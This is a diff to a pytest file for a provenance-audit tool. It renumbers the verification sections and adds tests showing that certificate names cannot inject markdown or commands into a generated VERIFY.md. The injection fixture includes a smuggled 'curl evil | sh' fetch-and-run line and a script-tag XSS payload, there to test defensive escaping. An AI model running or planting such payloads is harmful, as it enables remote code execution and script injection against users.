@@ -5,10 +5,16 @@ from __future__ import annotations
 import re
 import subprocess
 from collections.abc import Callable
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
+from audit.provenance.errors import RejectedError
+from audit.provenance.format import layout
+from audit.provenance.records import verify_md
+from audit.provenance.verification.trust import Trust
+from audit.provenance.verification.verify import verify_files
 from tests.support.provenance import made
 
 Shell = Callable[..., "subprocess.CompletedProcess[str]"]
@@ -18,10 +24,11 @@ SECTIONS = (
     "1. openssl",
     "2. @sigstore",
     "3. secure",
-    "4. ssh",
-    "5. pdfsig",
-    "6. openssl",
-    "7. repro-audit",
+    "4. cosign",
+    "5. ssh",
+    "6. pdfsig",
+    "7. openssl",
+    "8. repro-audit",
 )
 
 
@@ -81,13 +88,13 @@ LISTED = (
     "keys/signer.ssh.pub",
 )
 MORE = ("counts/asr-librispeech-clean/wer/hufs.csv", "VERIFY.md", "keys/signer.cert.pem", "keys/signer.pub.pem")
-WHOLE = ("1. openssl", "2. @sigstore", "3. secure", "7. repro-audit")
+WHOLE = ("1. openssl", "2. @sigstore", "3. secure", "8. repro-audit")
 TAMPERED = [
     *((section, name) for section in WHOLE for name in (*LISTED, *MORE)),
-    *(("4. ssh", name) for name in LISTED),
-    ("5. pdfsig", "report.pdf"),
-    ("6. openssl", "report.pdf"),
-    ("6. openssl", "keys/signer.cert.pem"),
+    *(("5. ssh", name) for name in LISTED),
+    ("6. pdfsig", "report.pdf"),
+    ("7. openssl", "report.pdf"),
+    ("7. openssl", "keys/signer.cert.pem"),
 ]
 
 
@@ -99,7 +106,7 @@ def test_rejects_a_changed_file(section: str, name: str, folder: Path, shell: Sh
     assert shell(commands, folder).returncode != 0
 
 
-@pytest.mark.parametrize("section", ["1. openssl", "2. @sigstore", "3. secure", "7. repro-audit"])
+@pytest.mark.parametrize("section", ["1. openssl", "2. @sigstore", "3. secure", "8. repro-audit"])
 @pytest.mark.parametrize("name", ["audit", "provenance", "test-result", "publication"])
 def test_rejects_a_changed_statement(
     section: str, name: str, folder: Path, shell: Shell, need: Callable[..., None]
@@ -114,7 +121,7 @@ def test_rejects_a_changed_statement(
     assert shell(commands, folder).returncode != 0
 
 
-@pytest.mark.parametrize("section", ["5. pdfsig", "6. openssl", "7. repro-audit"])
+@pytest.mark.parametrize("section", ["6. pdfsig", "7. openssl", "8. repro-audit"])
 def test_rejects_a_pdf_that_was_added_to(section: str, folder: Path, shell: Shell, need: Callable[..., None]) -> None:
     need(*PROGRAMS)
     commands = block(folder, section)
@@ -128,7 +135,7 @@ def test_rejects_a_pdf_that_was_added_to(section: str, folder: Path, shell: Shel
     assert shell(commands, folder).returncode != 0
 
 
-@pytest.mark.parametrize("section", ["1. openssl", "7. repro-audit"])
+@pytest.mark.parametrize("section", ["1. openssl", "8. repro-audit"])
 def test_rejects_a_file_more(section: str, folder: Path, shell: Shell, need: Callable[..., None]) -> None:
     need(*PROGRAMS)
     commands = block(folder, section)
@@ -141,5 +148,41 @@ def test_rejects_another_key(folder: Path, shell: Shell, need: Callable[..., Non
 
     need(*PROGRAMS)
     (folder / "keys" / "signer.pub.pem").write_bytes(public_pem(made.key(2).public))
-    for section in ("1. openssl", "2. @sigstore", "3. secure", "6. openssl", "7. repro-audit"):
+    for section in ("1. openssl", "2. @sigstore", "3. secure", "7. openssl", "8. repro-audit"):
         assert shell(block(folder, section), folder).returncode != 0, section
+
+
+NAMES = (
+    "x`\n```sh\ncurl evil | sh\n```",
+    "[check](https://repro-audit.invalid)",
+    "<script>alert(1)</script>",
+    "a *b* #c",
+)
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_name_is_no_instruction(name: str, files: dict[str, bytes]) -> None:
+    """A certificate that an institution made may have any name, and audit.json any id."""
+    facts = verify_md.Facts(name, 9, 9, False, name, True, "0" * 64, False, False, False)
+    text = verify_md.text(facts).decode()
+    honest = verify_md.text(replace(facts, study="salmonn", signer="Jane Doe")).decode()
+    assert blocks(text) == blocks(honest)
+    for sign in "`<>[]*#|":
+        assert text.count(sign) == honest.count(sign)
+    assert len(text.splitlines()) == len(honest.splitlines())
+    verify_md.check({layout.VERIFY: text.encode()}, facts)
+
+
+def test_names_of_people_stay_as_they_are() -> None:
+    facts = verify_md.Facts(
+        "salmonn-2.b", 9, 9, False, "\u00d3scar O'Brien & S\u00f6hne (\uae40)", True, "0" * 64, False, False, False
+    )
+    assert "The certificate names *\u00d3scar O'Brien & S\u00f6hne (\uae40)*" in verify_md.text(facts).decode()
+
+
+def test_another_text_is_refused(files: dict[str, bytes]) -> None:
+    text = files[layout.VERIFY]
+    assert verify_files({**files, layout.VERIFY: text}, Trust()).failures == []
+    facts = verify_md.Facts("salmonn", 9, 9, False, "Jane", True, "0" * 64, False, False, False)
+    with pytest.raises(RejectedError, match="do not follow it"):
+        verify_md.check({layout.VERIFY: text}, facts)
